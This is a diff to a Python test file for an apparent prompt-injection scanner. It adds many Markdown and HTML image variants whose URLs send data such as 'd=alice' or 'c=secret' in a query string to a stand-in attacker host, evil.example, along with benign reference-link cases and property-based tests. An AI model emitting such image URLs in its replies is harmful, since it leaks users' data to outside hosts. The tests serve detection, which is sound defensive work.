@@ -23,6 +23,20 @@ def rules(text: str) -> list[str]:
         ("![](//evil.example/p?u=1)", "image-url-data"),
         ('<img alt="" src="https://evil.example/p.gif?c=secret">', "image-url-data"),
         ("![x](<https://evil.example/a.png?q=a>)", "image-url-data"),
+        # Every valid Markdown image with data in its query, however it is written:
+        ("- ![x][r]\n\n[r]: https://evil.example/p.png?d=alice", "image-url-data"),  # full
+        ("- ![R][]\n\n[r]: https://evil.example/p.png?d=alice", "image-url-data"),  # collapsed
+        ("- ![r]\n\n  [R]:\n  <https://evil.example/p.png?d=alice>", "image-url-data"),  # shortcut
+        ("> ![x][a  b]\n>\n> [A\nB]: //evil.example/p?d=1", "image-url-data"),  # quoted, folded
+        ("- ![x\ny](https://evil.example/p.png?d=alice)", "image-url-data"),  # alt on two lines
+        ("- ![x](\nhttps://evil.example/p.png?d=alice)", "image-url-data"),  # next-line URL
+        ("- ![x](https://evil.example/p\\(1\\).png?d=alice)", "image-url-data"),  # escapes
+        ("- ![x](https://evil.example/p(1).png?d=alice)", "image-url-data"),  # balanced parens
+        ("- ![a [b] c](https://evil.example/p.png?d=alice)", "image-url-data"),  # nested brackets
+        ('<img srcset="/a.png 1x, https://evil.example/p?d=alice 2x">', "image-url-data"),
+        ("<picture><source srcset='https://evil.example/p?d=a'></picture>", "image-url-data"),
+        ('<video\n  poster="https://evil.example/p.jpg?d=alice">', "image-url-data"),
+        ("<IMG SRC=https://evil.example/p?d=alice>", "image-url-data"),
         ("[docs](https://e.example/?t=eyJhbGciOiJIUzI1NiJ9eyJzdWIiOiIxMjM0NTY3ODkwIn0)", "link"),
         ("see https://e.example/#aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29y1Q", "link"),
         ("[x](https://e.example/?q=" + "word+" * 25 + ")", "link"),
@@ -76,6 +90,13 @@ BENIGN = [
     "Email me: someone@example.com; call +1 555 0100.",
     "The systemd unit, the ecosystem: both fine. human beings, assistants, developers.",
     "<human-readable> is not a role tag; nor is <assistants>.",
+    # A reference link is no image; an image's definition without a query, or relative, is none;
+    # a definition no image uses is a link's (and a short query is no data).
+    "See [the list][l].\n\n[l]: https://example.com/list?page=2",
+    "![logo][l] and ![badge]\n\n[l]: https://example.com/logo.png\n[badge]: img/b.svg?style=flat",
+    "![x][used]\n\n[used]: https://example.com/a.png\n[other]: https://example.com/b?page=2",
+    '<a href="https://example.com/?page=2">next</a> <img src="/avatar.png?s=64">',
+    "![x]\n\nno definition, so text: [x] is a word in brackets ?d=1 //host",
 ]
 
 
@@ -169,6 +190,41 @@ BLOCK = st.one_of(
 @given(st.lists(BLOCK, min_size=1, max_size=8))
 def test_generated_benign_markdown_is_no_finding(blocks: list[str]) -> None:
     assert injection.scan("\n\n".join(blocks)) == ()
+
+
+LABEL = st.from_regex(r"[A-Za-z0-9]{1,6}( [A-Za-z0-9]{1,6}){0,2}", fullmatch=True)
+ALT = st.lists(SENTENCE, min_size=1, max_size=3).map("\n".join)  # line breaks, no blank line
+
+
+@given(
+    st.lists(BLOCK, max_size=4),
+    ALT,
+    LABEL,
+    st.sampled_from(["full", "collapsed", "shortcut"]),
+    ABSOLUTE_PLAIN,
+    SHORT_QUERY,
+    st.sampled_from(["", "> ", "- ", "   "]),
+    st.booleans(),
+)
+def test_a_reference_image_with_a_query_is_found_at_its_definition(
+    blocks, alt, label, form, url, query, margin, swap_case
+) -> None:
+    """Wherever the definition sits (before or after the image, in a quote or a list item) and
+    however the label is cased or spaced, the URL the image is fetched from is the finding."""
+    image = {"full": f"![{alt}][{label}]", "collapsed": f"![{label}][]", "shortcut": f"![{label}]"}
+    used = label.swapcase() if swap_case else label
+    definition = f"{margin}[{used.replace(' ', '  ')}]: {url}{query}"
+    text = "\n\n".join([*blocks, f"- {image[form]}", *blocks, definition])
+    found = [m for m in injection.scan(text) if m.rule == "image-url-data"]
+    assert [m.text for m in found] == [url + query]
+    assert text.rindex(url + query) == found[0].start
+
+
+@given(st.lists(BLOCK, max_size=4), SENTENCE, LABEL, ABSOLUTE_PLAIN, SHORT_QUERY)
+def test_a_reference_link_with_a_short_query_is_no_finding(blocks, text, label, url, query) -> None:
+    """The same definition used by a link, not an image: a short query is a link's, no data."""
+    body = "\n\n".join([*blocks, f"- [{text}][{label}]", f"[{label}]: {url}{query}"])
+    assert injection.scan(body) == ()
 
 
 @given(st.text(alphabet=st.characters(blacklist_characters="`~\n"), max_size=60))
